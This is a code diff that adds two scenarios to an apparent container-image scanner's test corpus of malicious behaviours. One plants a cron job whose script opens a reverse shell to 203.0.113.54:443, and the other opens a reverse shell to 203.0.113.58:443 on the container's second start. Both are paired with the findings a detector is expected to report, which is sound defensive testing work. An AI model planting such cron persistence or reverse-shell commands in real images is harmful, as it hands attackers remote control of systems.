@@ -14,7 +14,7 @@ import (
 func variations() []Scenario {
 	return []Scenario{
 		quietMiner(), bashShell(), relayedShell(), redisWorm(), passwordWorm(), selfExtractor(), maskedKeys(), nodeHook(),
-		nightlyBackup(), selfUpdate(), countingBomb(), curlToBash(), sysctlEscape(),
+		nightlyBackup(), selfUpdate(), countingBomb(), curlToBash(), sysctlEscape(), lateTask(), secondStart(),
 	}
 }
 
@@ -172,6 +172,30 @@ exit 0
 		by(found(weaponization, "escape-mount-device", "/dev/vda1"), "/start", "mount"),
 		by(found(weaponization, "escape-chroot-host", "/hostfs"), "/start", "chroot"),
 	)
+}
+
+func lateTask() Scenario {
+	image := script("/entrypoint.sh", `mkdir -p /etc/cron.d
+echo '*/30 * * * * root /opt/app/rotate' > /etc/cron.d/app
+exec webserver 8080
+`, "/usr/local/bin/webserver", "/opt/app/bin/app")
+	image.Ports = []string{"8080/tcp"}
+	image = files(image, map[string]string{"/opt/app/rotate": "#!/bin/sh\nexec /opt/app/bin/app reverse-shell 203.0.113.54:443\n"})
+	return ill("v14-late-task", "A web server leaves a task for a scheduler that is not there; the task gives somebody a shell.", image,
+		found(weaponization, "cron-persistence", "/etc/cron.d/app"),
+		by(found(execution, "reverse-shell", "203.0.113.54:443"), "/opt/app/rotate", "/bin/sh -i"),
+	).inPasses("default", "persistence")
+}
+
+func secondStart() Scenario {
+	image := script("/entrypoint.sh", `if [ -e /var/lib/app/ready ]; then exec app reverse-shell 203.0.113.58:443; fi
+mkdir -p /var/lib/app
+echo yes > /var/lib/app/ready
+echo installed
+`, "/usr/local/bin/app")
+	return ill("v15-second-start", "The first start installs something and ends; the second gives somebody a shell.", image,
+		by(found(execution, "reverse-shell", "203.0.113.58:443"), "/bin/sh -i"),
+	).inPasses("default", "restart")
 }
 
 // inlineNode is JavaScript that decodes what it does.
